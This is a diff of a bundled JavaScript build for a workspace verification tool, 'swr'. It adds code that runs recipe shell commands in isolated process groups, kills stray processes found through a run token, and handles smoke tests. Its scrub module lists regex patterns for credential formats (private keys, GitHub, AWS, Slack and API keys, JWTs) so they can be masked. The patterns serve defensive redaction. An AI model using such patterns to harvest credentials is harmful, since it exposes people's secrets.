+ * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
+ * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
+ * A process that clears its own environment is not found either.
+ */
+
+
+const escaped_RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
+function escaped_newRunToken() {
+    return randomBytes(16).toString('hex');
+}
+/** Processes other than this one whose environment carries `token`. */
+function findTagged(token) {
+    const needle = Buffer.from(`${escaped_RUN_TOKEN_VAR}=${token}\0`);
+    let pids;
+    try {
+        pids = fs.readdirSync('/proc').filter(n => /^\d+$/.test(n));
+    }
+    catch {
+        return [];
+    }
+    const out = [];
+    for (const p of pids) {
+        const pid = Number(p);
+        if (pid === process.pid)
+            continue;
+        try {
+            const env = fs.readFileSync(`/proc/${p}/environ`);
+            if (!env.includes(needle))
+                continue;
+            const name = fs.readFileSync(`/proc/${p}/comm`, 'utf8').trim();
+            out.push({ pid, name });
+        }
+        catch {
+            // Gone, or not ours to read.
+        }
+    }
+    return out;
+}
+const sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
+ * was found, for the report.
+ */
+async function escaped_killTagged(token, graceMs) {
+    const found = findTagged(token);
+    if (found.length === 0)
+        return found;
+    const signal = (sig) => {
+        for (const p of found) {
+            try {
+                process.kill(p.pid, sig);
+            }
+            catch {
+                // Already gone.
+            }
+        }
+    };
+    signal('SIGTERM');
+    const deadline = Date.now() + graceMs;
+    while (Date.now() < deadline && findTagged(token).length > 0)
+        await sleep(50);
+    signal('SIGKILL');
+    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
+    return found;
+}
+
+;// CONCATENATED MODULE: external "node:string_decoder"
+const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
+;// CONCATENATED MODULE: ./src/core/run/output.ts
+/**
+ * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
+ * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
+ * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
+ */
+
+/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
+function output_lineSplitter(onLine, maxLine) {
+    const decoder = new StringDecoder('utf8');
+    let partial = '';
+    const take = (text) => {
+        const lines = (partial + text).split('\n');
+        partial = lines.pop() ?? '';
+        for (const l of lines)
+            onLine(l);
+        if (partial.length > maxLine) {
+            onLine(partial);
+            partial = '';
+        }
+    };
+    return {
+        push: chunk => take(decoder.write(chunk)),
+        end: () => {
+            take(decoder.end());
+            if (partial)
+                onLine(partial);
+            partial = '';
+        }
+    };
+}
+/** The last `maxBytes` bytes of output, kept as whole lines. */
+function output_tailKeeper(maxBytes) {
+    const lines = [];
+    const sizes = [];
+    let head = 0;
+    let bytes = 0;
+    let cut = false;
+    return {
+        add(line) {
+            let l = line + '\n';
+            let n = Buffer.byteLength(l);
+            if (n > maxBytes) {
+                // One line longer than the whole budget: keep its end.
+                l = Buffer.from(l)
+                    .subarray(n - maxBytes)
+                    .toString('utf8')
+                    .replace(/^\uFFFD+/, '');
+                n = Buffer.byteLength(l);
+                cut = true;
+            }
+            lines.push(l);
+            sizes.push(n);
+            bytes += n;
+            while (bytes > maxBytes && head < lines.length) {
+                bytes -= sizes[head] ?? 0;
+                head++;
+                cut = true;
+            }
+            if (head > 1024 && head * 2 > lines.length) {
+                lines.splice(0, head);
+                sizes.splice(0, head);
+                head = 0;
+            }
+        },
+        text: () => lines.slice(head).join(''),
+        truncated: () => cut
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/run/recipe.ts
+/**
+ * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
+ * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
+ * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
+ * A process that left the group (`setsid`) is found by the run token in its environment, stopped
+ * and reported; and once the recipe's own process has exited, swr waits at most a grace period
+ * for the output pipes such a process may hold open.
+ * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
+ */
+
+
+
+const KEEP_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
+const DEFAULT_GRACE_MS = 3000;
+const BASE_ENV_NAMES = (/* unused pure expression or super */ null && (['PATH', 'HOME', 'LANG', 'TMPDIR']));
+/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
+function recipe_minimalEnv(from, names) {
+    const env = {};
+    for (const n of [...BASE_ENV_NAMES, ...names]) {
+        const v = from[n];
+        if (v !== undefined)
+            env[n] = v;
+    }
+    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
+    return env;
+}
+function killGroup(pid, signal) {
+    try {
+        process.kill(-pid, signal);
+    }
+    catch {
+        // Already gone.
+    }
+}
+function recipe_runRecipe(spec, hooks) {
+    const started = performance.now();
+    const [cmd, ...args] = spec.shell;
+    const token = newRunToken();
+    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
+    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
+    if (unusable !== undefined)
+        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
+    return new Promise(resolve => {
+        const child = spawn(cmd ?? 'bash', [...args, spec.command], {
+            cwd: spec.cwd,
+            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
+            detached: true, // its own process group, so the whole group can be stopped
+            stdio: ['ignore', 'pipe', 'pipe']
+        });
+        const kept = tailKeeper(KEEP_BYTES);
+        let timedOut = false;
+        let interrupted = false;
+        let exited;
+        const emit = (line) => {
+            const clean = hooks.scrub(line);
+            hooks.onLine?.(spec.id, clean);
+            kept.add(clean);
+        };
+        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
+        const out = lineSplitter(emit, KEEP_BYTES);
+        const err = lineSplitter(emit, KEEP_BYTES);
+        child.stdout.on('data', out.push);
+        child.stderr.on('data', err.push);
+        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
+        let killer;
+        const stop = () => {
+            if (child.pid === undefined || killer)
+                return;
+            killGroup(child.pid, 'SIGTERM');
+            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
+        };
+        const timer = setTimeout(() => {
+            timedOut = true;
+            stop();
+        }, spec.timeoutMs);
+        const onAbort = () => {
+            interrupted = true;
+            stop();
+        };
+        hooks.abort?.addEventListener('abort', onAbort, { once: true });
+        if (hooks.abort?.aborted)
+            onAbort();
+        let finished = false;
+        let pipeTimer;
+        const finish = async () => {
+            if (finished)
+                return;
+            finished = true;
+            clearTimeout(timer);
+            clearTimeout(pipeTimer);
+            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
+            // return, not on a timer that a finished swr would never fire.
+            if (child.pid !== undefined)
+                await reapGroup(child.pid, grace);
+            if (killer)
+                clearTimeout(killer);
+            const escaped = await killTagged(token, Math.min(grace, 1000));
+            if (escaped.length > 0)
+                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
+                    .map(p => `${p.pid} (${p.name})`)
+                    .join(', ')}`);
+            child.stdout.destroy();
+            child.stderr.destroy();
+            hooks.abort?.removeEventListener('abort', onAbort);
+            out.end();
+            err.end();
+            resolve({
+                id: spec.id,
+                exitCode: exited?.code ?? null,
+                signal: exited?.signal ?? null,
+                timedOut,
+                interrupted,
+                ms: Math.round(performance.now() - started),
+                output: kept.text(),
+                truncated: kept.truncated(),
+                escaped
+            });
+        };
+        child.on('error', err => {
+            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
+            exited = { code: 127, signal: null };
+            void finish();
+        });
+        child.on('exit', (code, signal) => {
+            exited = { code, signal };
+            // Background processes the recipe left behind go with it (and release the output pipes).
+            if (child.pid !== undefined && groupAlive(child.pid))
+                stop();
+            // A process outside the group may hold the pipes open for ever: stop waiting for them.
+            pipeTimer = setTimeout(() => void finish(), grace + 500);
+        });
+        child.on('close', () => void finish());
+    });
+}
+function notStarted(spec, why) {
+    const line = `cannot start: ${why}`;
+    return {
+        id: spec.id,
+        exitCode: 127,
+        signal: null,
+        timedOut: false,
+        interrupted: false,
+        ms: 0,
+        output: `${line}\n`,
+        truncated: false,
+        escaped: [],
+        startError: why
+    };
+}
+function groupAlive(pgid) {
+    try {
+        process.kill(-pgid, 0);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+/**
+ * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
+ * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
+ */
+async function reapGroup(pgid, grace) {
+    if (!groupAlive(pgid))
+        return;
+    killGroup(pgid, 'SIGTERM');
+    const deadline = Date.now() + grace;
+    while (groupAlive(pgid) && Date.now() < deadline)
+        await new Promise(r => setTimeout(r, 25));
+    killGroup(pgid, 'SIGKILL');
+}
+/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
+function recipe_describeResult(r, timeoutMs) {
+    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
+}
+function describeEnd(r, timeoutMs) {
+    const secs = (r.ms / 1000).toFixed(1);
+    if (r.startError)
+        return `not started: ${r.startError}`;
+    if (r.interrupted)
+        return `interrupted after ${secs} s`;
+    if (r.timedOut)
+        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
+    if (r.signal)
+        return `killed by ${r.signal} after ${secs} s`;
+    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
+}
+function describeEscaped(escaped) {
+    if (escaped.length === 0)
+        return '';
+    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
+    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/scrub.ts
+/**
+ * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
+ * variables an entry marks secret, and token shapes that are secrets wherever they appear.
+ */
+/**
+ * Token shapes, each with the variable a redacted copy names it by (sync/redact.ts). A private key
+ * block comes first, so its base64 lines are never matched piecemeal by a shorter shape.
+ */
+const scrub_NAMED_TOKEN_SHAPES = [
+    {
+        re: /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
+        variable: 'PRIVATE_KEY_PEM'
+    },
+    { re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bglpat-[A-Za-z0-9_-]{20,}\b/g, variable: 'GITLAB_TOKEN' },
+    { re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, variable: 'SLACK_TOKEN' },
+    { re: /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, variable: 'AWS_ACCESS_KEY_ID' },
+    // OpenAI / Anthropic style keys
+    { re: /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, variable: 'OPENAI_API_KEY' },
+    { re: /\bhf_[A-Za-z0-9]{30,}\b/g, variable: 'HF_TOKEN' },
+    { re: /\bnpm_[A-Za-z0-9]{36}\b/g, variable: 'NPM_TOKEN' },
+    { re: /\bAIza[0-9A-Za-z_-]{35}\b/g, variable: 'GOOGLE_API_KEY' },
+    { re: /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, variable: 'JWT' },
+    // A password in a URL (scheme://user:PASSWORD@host).
+    { re: /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi, variable: 'URL_PASSWORD' }
+];
+const TOKEN_SHAPES = scrub_NAMED_TOKEN_SHAPES.map(s => s.re);
+const MASK = '***';
+/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
+function scrub_hasTokenShape(text) {
+    // search() ignores the patterns' global state, so the shared regexes stay reusable.
+    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
+}
+/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
+const MIN_SECRET = 4;
+/**
+ * What to mask for these secret values: each whole value and, since output is read and masked
+ * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
+ * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
+ */
+function secretPieces(secretValues) {
+    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
+    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
+}
+/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
+function scrub_makeScrubber(secretValues) {
+    const values = secretPieces(secretValues);
+    return text => {
+        let out = text;
+        for (const v of values)
+            out = out.split(v).join(MASK);
+        for (const re of TOKEN_SHAPES)
+            out = out.replace(re, MASK);
+        return out;
+    };
+}
+/** `value` with every string in it scrubbed (a report before it is written or printed). */
+function scrubDeep(value, scrub) {
+    if (typeof value === 'string')
+        return scrub(value);
+    if (Array.isArray(value))
+        return value.map(v => scrubDeep(v, scrub));
+    if (value !== null && typeof value === 'object')
+        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
+    return value;
+}
+
+;// CONCATENATED MODULE: ./src/core/smoke.ts
+
+
+
+const SMOKE_TIMEOUT_S = 60;
+async function smoke_runSmokes(m, findings, gate, callerEnv, abort) {
+    if (!gate.allowed)
+        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
+    const entries = new Map(m.body.entries.map(e => [e.id, e]));
+    const results = [];
+    const out = [];
+    for (const f of findings) {
+        const e = entries.get(f.id);
+        if (!e)
+            throw new InternalError(`finding for unknown entry ${f.id}`);
+        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
+            out.push(f);
+            continue;
+        }
+        const secrets = (e.secret_env ?? [])
+            .map(n => callerEnv[n])
+            .filter((v) => v !== undefined);
+        const r = await runRecipe({
+            id: e.id,
+            command: e.smoke,
+            shell: m.body.shell ?? ['bash', '-c'],
+            cwd: m.workspace,
+            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
+            timeoutMs: SMOKE_TIMEOUT_S * 1000
+        }, { abort, scrub: makeScrubber(secrets) });
+        const detail = `smoke ${describeResult(r, SMOKE_TIMEOUT_S * 1000)}`;
+        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
+        results.push({
+            id: e.id,
+            outcome: passed ? 'passed' : 'failed',
+            detail,
+            ...(passed ? {} : { output: r.output.slice(-4096) })
+        });
+        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
+    }
+    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
 }
 
 ;// CONCATENATED MODULE: ./src/core/types.ts
@@ -37116,7 +37801,7 @@ const WIPE_SIGNATURES = (/* unused pure expression or super */ null && ([
  * parallel. No fs, no clock, no processes here.
  */
 
-function planSteps(plan) {
+function plan_planSteps(plan) {
     return plan.waves.flat();
 }
 /** The sources a restore of `e` tries, in order (escrow first, then the manifest's order). */
@@ -37127,7 +37812,7 @@ function plan_sourcesOf(e) {
     return out;
 }
 /** Plan the repair of every damaged finding (status other than OK and SKIPPED). */
-function planRepair(entries, findings) {
+function plan_planRepair(entries, findings) {
     const damaged = new Map(findings.filter(f => f.status !== 'OK' && f.status !== 'SKIPPED').map(f => [f.id, f]));
     const order = new Map(entries.map((e, i) => [e.id, i]));
     const todo = entries.filter(e => damaged.has(e.id));
@@ -37171,7 +37856,7 @@ function planRepair(entries, findings) {
 
 
 /** Directory names that runners, caches and sandboxes routinely drop or never keep. */
-const VOLATILE_DIRS = new Set([
+const diagnose_VOLATILE_DIRS = new Set([
     '.cache',
     '.next',
     '.npm',
@@ -37198,8 +37883,8 @@ const VOLATILE_DIRS = new Set([
 function diagnose_isDamaged(f) {
     return f.status !== 'OK';
 }
-function underVolatileDir(p) {
-    return p.split('/').some(seg => VOLATILE_DIRS.has(seg));
+function diagnose_underVolatileDir(p) {
+    return p.split('/').some(seg => diagnose_VOLATILE_DIRS.has(seg));
 }
 function damageOf(f) {
     switch (f.status) {
@@ -37314,7 +37999,7 @@ function wipeSignature(findings) {
         return 'injection';
     if (all(x => x.f.tier === 0))
         return 'credential-loss';
-    if (all(x => lost(x.d) && underVolatileDir(danglingTarget(x.f) ?? x.f.path)))
+    if (all(x => lost(x.d) && diagnose_underVolatileDir(danglingTarget(x.f) ?? x.f.path)))
         return 'exclusion-sweep';
     if (all(x => x.f.kind === 'blob' && lost(x.d)))
         return 'size-cap-eviction';
@@ -37422,7 +38107,7 @@ function noWayBack(f) {
 /** Cause and fix for one damaged entry. */
 function adviceFor(f, command = 'swr restore', ways = 'unknown') {
     const restore = ways === 'none' ? noWayBack(f) : `${command} --only ${f.id}`;
-    const volatile = underVolatileDir(f.path)
+    const volatile = diagnose_underVolatileDir(f.path)
         ? ` ${f.path} is under a directory that caches and snapshots often exclude.`
         : '';
     const chmod = (mode) => ways === 'none'
@@ -37551,7 +38236,7 @@ function report_buildReport(input) {
  * Write every byte of `buf` at the descriptor's position: `write(2)` may write fewer bytes than
  * asked (a nearly full disk, a signal), and the rest must follow, or the error must surface.
  */
-function writeAll(fd, buf) {
+function atomic_writeAll(fd, buf) {
     let off = 0;
     while (off < buf.length) {
         const n = external_node_fs_default().writeSync(fd, buf, off, buf.length - off);
@@ -37580,7 +38265,7 @@ function atomic_writeFileAtomic(file, data, opts = {}) {
     }
     try {
         try {
-            writeAll(fd, bytes);
+            atomic_writeAll(fd, bytes);
             if (opts.mode !== undefined)
                 external_node_fs_default().fchmodSync(fd, opts.mode);
             external_node_fs_default().fsyncSync(fd);
@@ -37610,7 +38295,7 @@ function atomic_writeFileAtomic(file, data, opts = {}) {
  * Append one record with a single descriptor: every byte or a one-line error. A record torn by a
  * full disk is cut back off, so the file keeps only whole lines.
  */
-function appendRecord(file, data, opts = {}) {
+function atomic_appendRecord(file, data, opts = {}) {
     const flags = fs.constants.O_WRONLY |
         fs.constants.O_APPEND |
         fs.constants.O_NOFOLLOW |
@@ -37625,7 +38310,7 @@ function appendRecord(file, data, opts = {}) {
     let before = 0;
     try {
         before = fs.fstatSync(fd).size;
-        writeAll(fd, Buffer.from(data, 'utf8'));
+        atomic_writeAll(fd, Buffer.from(data, 'utf8'));
         fs.fsyncSync(fd);
     }
     catch (err) {
@@ -37812,178 +38497,6 @@ function isTreeFiles(v) {
         Object.values(s.files).every(x => typeof x === 'string'));
 }
 
-;// CONCATENATED MODULE: ./src/core/report/escape.ts
-/**
- * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
- * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
- * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
- * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
- * reorder what the reader sees. Every printer passes such strings through `escapeText`.
- */
-/** Bidi controls: they make text display in another order than it is stored. */
-const BIDI = new Set([
-    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
-]);
-const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
-/** The default bound for a manifest string quoted in an error line. */
-const QUOTE_MAX = 200;
-/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
-function escape_isControl(code) {
-    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
-}
-function hex(code, width) {
-    return code.toString(16).padStart(width, '0');
-}
-function visible(code) {
-    if (NAMED[code])
-        return NAMED[code];
-    if (code <= 0xff && escape_isControl(code))
-        return `\\x${hex(code, 2)}`;
-    if (BIDI.has(code))
-        return `\\u${hex(code, 4)}`;
-    return undefined;
-}
-/**
- * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
- * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
- * surrogate pair is left alone.
- */
-function byteMarker(s, i) {
-    const code = s.charCodeAt(i);
-    if (code < 0xdc80 || code > 0xdcff)
-        return undefined;
-    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
-    if (prev >= 0xd800 && prev <= 0xdbff)
-        return undefined;
-    return `\\x${hex(code - 0xdc00, 2)}`;
-}
-/**
- * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
- * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
- * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
- * built from escaped parts may be escaped again by the printer.
- */
-function escapeText(s, opts = {}) {
-    const max = opts.max ?? Number.POSITIVE_INFINITY;
-    let out = '';
-    let i = 0;
-    for (; i < s.length; i++) {
-        const code = s.charCodeAt(i);
-        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
-        if (out.length + piece.length > max)
-            break;
-        out += piece;
-    }
-    if (i >= s.length)
-        return out;
-    // Never leave half a surrogate pair at the cut.
-    const last = out.charCodeAt(out.length - 1);
-    if (last >= 0xd800 && last <= 0xdbff) {
-        out = out.slice(0, -1);
-        i--;
-    }
-    return `${out}…[+${s.length - i} chars]`;
-}
-/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
-function quoted(s, max = QUOTE_MAX) {
-    return `"${escapeText(s, { max })}"`;
-}
-/**
- * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
- * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
- * table cell, link, image, emphasis, code span or HTML.
- */
-function escapeMarkdown(s, opts = {}) {
-    return escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
-}
-/**
- * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
- * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
- * there, written `\|`) need care.
- */
-function markdownCode(s, opts = {}) {
-    return '`' + escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
-/**
- * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
- * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
- */
-
-
-const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
-const MAX_PATH = 4096;
-/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
-function pathProblem(p) {
-    if (p === '.')
-        return undefined;
-    if (p.length === 0)
-        return 'is empty';
-    if (p.length > MAX_PATH)
-        return `is longer than ${MAX_PATH} characters`;
-    if (p.includes('\0'))
-        return 'contains a NUL byte';
-    if (!p.isWellFormed() || p.normalize('NFC') !== p)
-        return 'is not NFC-normalised Unicode';
-    if (p.startsWith('/'))
-        return 'is absolute; manifest paths are relative to the workspace';
-    for (const seg of p.split('/')) {
-        if (seg === '')
-            return 'has an empty segment (double or trailing slash)';
-        if (seg === '..')
-            return 'escapes the workspace with ".."';
-        if (seg === '.')
-            return 'has a "." segment; write it without';
-    }
-    return undefined;
-}
-/**
- * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
- * `workspace`. Returns an error string when the path is outside the workspace.
- */
-function toManifestPath(input, cwd, workspace) {
-    const abs = path.resolve(cwd, input.normalize('NFC'));
-    const rel = path.relative(workspace, abs);
-    if (rel === '')
-        return { ok: true, path: '.' };
-    if (rel === '..' || rel.startsWith('../') || path.isAbsolute(rel)) {
-        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
-    }
-    const spelled = rel.split(path.sep).join('/');
-    const problem = pathProblem(spelled) ?? controlProblem(spelled);
-    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
-}
-/**
- * A manifest path is printed on lines of output, so the loader refuses one holding a control or
- * bidi character; a path typed to `add` is refused the same way before anything is written.
- */
-function controlProblem(p) {
-    for (let i = 0; i < p.length; i++) {
-        const c = p.charCodeAt(i);
-        if (isControl(c))
-            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
-    }
-    return undefined;
-}
-/** True when `abs` is `root` or below it (both already absolute and normalised). */
-function isInside(root, abs) {
-    if (abs === root)
-        return true;
-    const base = root.endsWith('/') ? root : `${root}/`;
-    return abs.startsWith(base);
-}
-/** Absolute location of a validated manifest path. */
-function resolveEntryPath(workspace, rel) {
-    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
-}
-/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
-function innerPathProblem(p) {
-    if (p === '.')
-        return 'names the tree itself';
-    return pathProblem(p);
-}
-
 ;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
 /**
  * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
@@ -37995,7 +38508,7 @@ function innerPathProblem(p) {
 
 
 /** Locate `rel` below `root` (an absolute, real directory path). */
-function locateInside(root, rel) {
+function locate_entry_locateInside(root, rel) {
     const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
     if (rel !== '.') {
         const parent = external_node_path_default().dirname(abs);
@@ -38008,7 +38521,7 @@ function locateInside(root, rel) {
             const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
             return { state: 'missing', abs, why };
         }
-        if (!isInside(root, realParent)) {
+        if (!paths_isInside(root, realParent)) {
             return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
         }
     }
@@ -38042,10 +38555,10 @@ function identity(st) {
 ;// CONCATENATED MODULE: ./src/core/verify/mode.ts
 /** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
 /** "0755" from permission bits. */
-function octal(mode) {
+function mode_octal(mode) {
     return (mode & 0o7777).toString(8).padStart(4, '0');
 }
-function parseMode(text) {
+function mode_parseMode(text) {
     return parseInt(text, 8) & 0o7777;
 }
 /** True when `found` lacks an exec bit that `wanted` has: what lossy restores do. */
@@ -38095,7 +38608,7 @@ function finding(e, status, reason, detail, recorded, found, cached = false) {
  * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
  */
 function locateAs(e, ctx, recorded, noun, is, want) {
-    const loc = locateInside(ctx.workspace, e.path);
+    const loc = locate_entry_locateInside(ctx.workspace, e.path);
     if (loc.state !== 'present') {
         const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
         return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
@@ -38199,7 +38712,7 @@ function bytesOf(s) {
  * @param {string} s
  * @returns {string | Buffer}
  */
-function fsPath(s) {
+function byte_names_fsPath(s) {
   return s.isWellFormed() ? s : bytesOf(s)
 }
 
@@ -38210,7 +38723,7 @@ function fsPath(s) {
  * @returns {string[]}
  */
 function readNames(dir) {
-  const p = fsPath(dir)
+  const p = byte_names_fsPath(dir)
   const names = external_node_fs_.readdirSync(p)
   if (!names.some(n => n.includes(REPLACEMENT))) return names
   return external_node_fs_.readdirSync(p, { encoding: 'buffer' }).map(nameOf)
@@ -38222,7 +38735,7 @@ function readNames(dir) {
  * @returns {{ name: string, dir: boolean }[]}
  */
 function readEntries(dir) {
-  const p = fsPath(dir)
+  const p = byte_names_fsPath(dir)
   const ents = external_node_fs_.readdirSync(p, { withFileTypes: true })
   if (!ents.some(d => d.name.includes(REPLACEMENT)))
     return ents.map(d => ({ name: d.name, dir: d.isDirectory() }))
@@ -38236,7 +38749,7 @@ function readEntries(dir) {
  * @returns {string}
  */
 function readTarget(abs) {
-  return nameOf(external_node_fs_.readlinkSync(fsPath(abs), { encoding: 'buffer' }))
+  return nameOf(external_node_fs_.readlinkSync(byte_names_fsPath(abs), { encoding: 'buffer' }))
 }
 
 /**
@@ -38247,7 +38760,7 @@ function readTarget(abs) {
  * @param {string} s
  * @returns {string}
  */
-function shownName(s) {
+function byte_names_shownName(s) {
   return s.replace(
     // eslint-disable-next-line no-control-regex
     /[\\\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\udc80-\udcff]/gu,
@@ -38264,12 +38777,282 @@ function shownName(s) {
   )
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk-format.mjs
+// The tree walk's definition, in one place: the order entries are visited in, the type letter and
+// mode text each gets, and the lines the recorded digests are computed over. Every walker (the
+// inline walk in walk.ts, the walk workers in hash-kernel.mjs, GNU find through native-walk.ts
+// and its re-sort in find-lines.ts) takes its order and its lines from here, so a change here
+// changes all of them at once. Any change to a line's spelling changes every recorded digest:
+// recorded manifests then fail their metadata and content checks. Plain JavaScript so the worker
+// kernel can import it without a build (as byte-names.mjs).
+//
+// Each entry below the tree's root gives one line to each digest:
+//   meta:    relpath NUL type NUL size NUL mode LF        (size 0 unless a regular file)
+//   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
+//   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF (the incremental-cache key)
+
+
+
+/**
+ * Type letters: a regular file, a directory, a symlink, anything else. The first three are GNU
+ * find's own -type letters, so its -type tests name them as they are.
+ */
+const TYPE = Object.freeze({ file: 'f', dir: 'd', link: 'l', other: 'o' })
+
+/** The letters find can test for, in the order tested (anything else is TYPE.other). */
+const FIND_TYPES = [TYPE.file, TYPE.dir, TYPE.link]
+
+/**
+ * The type letter of an lstat result (Stats or BigIntStats).
+ * @param {import('node:fs').Stats | import('node:fs').BigIntStats} st
+ */
+function typeOf(st) {
+  if (st.isFile()) return TYPE.file
+  if (st.isDirectory()) return TYPE.dir
+  if (st.isSymbolicLink()) return TYPE.link
+  return TYPE.other
+}
+
+/**
